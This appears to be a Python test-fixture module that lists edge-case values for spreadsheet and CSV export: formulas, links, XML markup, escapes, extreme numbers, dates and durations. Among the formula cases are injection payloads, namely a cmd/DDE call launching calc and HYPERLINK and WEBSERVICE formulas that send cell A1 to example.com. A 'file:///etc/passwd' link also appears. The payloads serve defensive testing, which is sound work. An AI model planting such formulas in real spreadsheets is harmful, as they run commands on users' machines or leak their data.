"""The table of all that is known to go wrong, each value by name: for workbooks, and for CSV's profile ``excel``."""

from collections.abc import Sequence
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

import attrs
import polars as pl

LONGEST = 32_767
"""Units of UTF-16 that a cell holds."""
NOT_XML = [chr(code) for code in (*range(9), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF)]
TAKEN_AWAY = "x005F_"
"""openpyxl drops it wherever it is."""
STARTERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"


@attrs.frozen
class Named:
    """A value with a name.

    Args:
        name: What is special about it.
        value: The value.
        dtype: Its type.
        refused: What the error says where a workbook cannot hold it.
    """

    name: str
    value: Any
    dtype: pl.DataType = attrs.field(factory=pl.String)
    refused: str = ""


def _texts(what: str, texts: Sequence[str], refused: str = "") -> list[Named]:
    return [Named(f"{what}: {text[:40]!a}, {len(text)} characters", text, refused=refused) for text in texts]


def _values(dtype: pl.DataType, values: Sequence[Any]) -> list[Named]:
    return [Named(f"{dtype}: {value!r}", value, dtype) for value in values]


_FORMULAS = (
    *(starter + "1+1" for starter in STARTERS),
    *("=", "+", "-", "@", "\t", "\r", "\n", "\r\n=1", "=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1"),
    *('"=1+1"', "'=1+1", "''=1+1", "'", "{=1+1}", "{=SUM(A1:A9)}", "==1", "=\n1+1", "a=1+1", "=A1", "=R[-1]C"),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    '=WEBSERVICE("https://example.com/?q="&A1)',
    *("+49 30 901820", "-5", "+5", "#REF!", "#N/A"),
)
GUESSED = ("TRUE", "1e5", "007", "1/2", "2026-08-15", "12345678901234567890")
"""Texts that are no formulas, and that programs like to take for something else."""
_URL = "https://proxies.example.com/"
_LINKS = (
    *("http://example.com", "https://example.com/a b", "ftp://example.com", "mailto:ada@example.com"),
    *("internal:Sheet1!A1", "external:c:\\temp\\foo.xlsx", "file:///etc/passwd", "\\\\server\\share"),
    *(_URL + "a" * (2_080 - len(_URL)), _URL + "a" * 10_000, _URL + "#" + "a" * 300),
)
_MARKUP = (
    *(
        "<r>rich</r>",
        "<r><t>rich</t></r>",
        "<r></r>",
        "<r>&</r>",
        "<is><t>x</t></is>",
        "</t></si></sst>",
        "<![CDATA[x]]>",
    ),
    *("]]>", "&amp;", "&#13;", "&lt;", "&", "<", ">", '"', "<!-- -->", "<?xml version='1.0'?>", "&nbsp;"),
)
_ESCAPES = (
    *("_x0041_", "_x000D_", "_x0000_", "_x0041", "x0041_", "_xZZZZ_", "_X0041_", "__x0041_", "_x0041_x0042_"),
    *("_x00e9_", "_", "_x_"),
    # LibreOffice takes fewer digits for an escape, too, and what it does not know as one together with its last "_".
    *("_x5_", "_x05_", "_x005_", "_xa_", "_x5F_", "_x5f_x0041_", "_xabc_x0041_", "_x00005_", "_x1f600_", "_xd800_"),
    "_x5_x5_",
)
_BLANKS = (
    *("", " ", "  ", " a", "a ", "a  b", "\ta", "a\t", "\n", "a\nb", "a\rb", "a\r\nb", "\r\n", "\n\n", "a\n"),
    *("\u00a0", "\u3000"),
)
_CHARACTERS = (
    *("\x7f", "\x80", "\x85", "\x9f", "\u2028", "\u2029", "\ufdd0", "\ufffd", "\U0001fffe", "\U0010ffff", "\ue000"),
    *("e\u0301", "\u202eabc", "漢字", "😀", "👩\u200d👩\u200d👧", "\ufeff"),
)
_CONTROL, _MANY = "control characters", "32,767 characters"
_FLOATS = (
    *(0.0, -0.0, 0.1, 0.1 + 0.2, 1e15, 1e16, 123456789.123456789, 1e308, 1.7976931348623157e308),
    *(2.2250738585072014e-308, 5e-324, -1e-320, float("nan"), float("inf"), float("-inf")),
)
_DATES = (
    *("0001-01-01", "1899-12-30", "1899-12-31", "1900-01-01", "1900-02-28", "1900-03-01", "1970-01-01"),
    *("2026-08-15", "9999-12-31"),
)
_LOCAL = (
    *("1899-12-31T23:59:59", "1900-02-28T23:59:00", "1900-03-01T00:00:00", "2026-08-15T06:00:00"),
    *("2026-08-15T06:00:00.000001", "2026-08-15T23:59:59.999999", "2026-08-15T23:59:59.999000"),
    *("2079-06-04T23:59:59.999999", "2079-06-07T00:00:00.000001", "9999-12-31T23:59:59.999000"),
)
_UTC = (
    *("1899-01-01T00:00:00Z", "1900-03-01T00:00:00Z", "1900-03-02T00:00:00Z", "2026-08-15T06:30:00.123456Z"),
    "9999-12-31T12:00:00Z",
)
_BERLIN = ("2026-08-15T06:30:00Z", "2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z", "2026-03-29T01:00:00Z")
_DURATIONS = (
    *(timedelta(0), timedelta(microseconds=1), timedelta(hours=23, minutes=59), timedelta(days=1, milliseconds=1)),
    *(timedelta(days=60), timedelta(days=61), timedelta(days=40_000), timedelta(days=70_000, microseconds=1)),
    *(timedelta(microseconds=-1), timedelta(days=-1)),
)
NAMED: Sequence[Named] = (
    *_texts("formula", (*_FORMULAS, *GUESSED)),
    *_texts("link", _LINKS),
    *_texts("markup", _MARKUP),
    *_texts("escape", _ESCAPES),
    *_texts("escape of an escape", ("_x005F_", "_x005F_x0041_", TAKEN_AWAY), _CONTROL),
    *_texts("not XML", [f"a{character}b" for character in NOT_XML], _CONTROL),
    *_texts("blanks", _BLANKS),
    *_texts("character", _CHARACTERS),
    *_texts("longest", ("a" * LONGEST, "&" * LONGEST, "😀" * (LONGEST // 2))),
    *_texts("too long", ("a" * (LONGEST + 1), "😀" * (LONGEST // 2 + 1)), _MANY),
    *_values(pl.Int64(), (0, -1, 10**15 - 1, 1 - 10**15, 10**15, -(10**15), 12345678901234567, 2**63 - 1, -(2**63))),
    *_values(pl.UInt64(), (0, 2**53, 2**53 + 1, 2**64 - 1)),
    *_values(pl.Float64(), _FLOATS),
    *_values(
        pl.Decimal(38, 4),
        [Decimal(text) for text in ("1.1000", "-0.0001", "99999999999.9999", "123456789012.3456", "1E+20")],
    ),
    *_values(pl.Boolean(), (True, False)),
    *_values(pl.Date(), [date.fromisoformat(text) for text in _DATES]),
    *_values(pl.Datetime("us"), [datetime.fromisoformat(text) for text in _LOCAL]),
    *_values(pl.Datetime("us", "UTC"), [datetime.fromisoformat(text) for text in _UTC]),
    *_values(pl.Datetime("ms", "Europe/Berlin"), [datetime.fromisoformat(text) for text in _BERLIN]),
    *_values(pl.Time(), (time(0), time(6, 30), time(12, 0, 0, 1), time(23, 59, 59, 999000), time(23, 59, 59, 999999))),
    *_values(pl.Duration("us"), _DURATIONS),
    *_values(pl.Binary(), (b"", b"\0\xff", b"=1+1", bytes(range(256)))),
)


def series_of(named: Sequence[Named]) -> list[pl.Series]:
    """A column for each type, in the order in which the types come."""
    columns: dict[pl.DataType, list[Any]] = {}
    for one in named:
        columns.setdefault(one.dtype, []).append(one.value)
    return [pl.Series(str(dtype), values, dtype=dtype) for dtype, values in columns.items()]


def frame_of(columns: Sequence[pl.Series]) -> pl.DataFrame:
    """Columns of different lengths as a table, with nulls at the end of the short ones."""
    height = max(map(len, columns))
    return pl.DataFrame([column.extend_constant(None, height - len(column)) for column in columns])
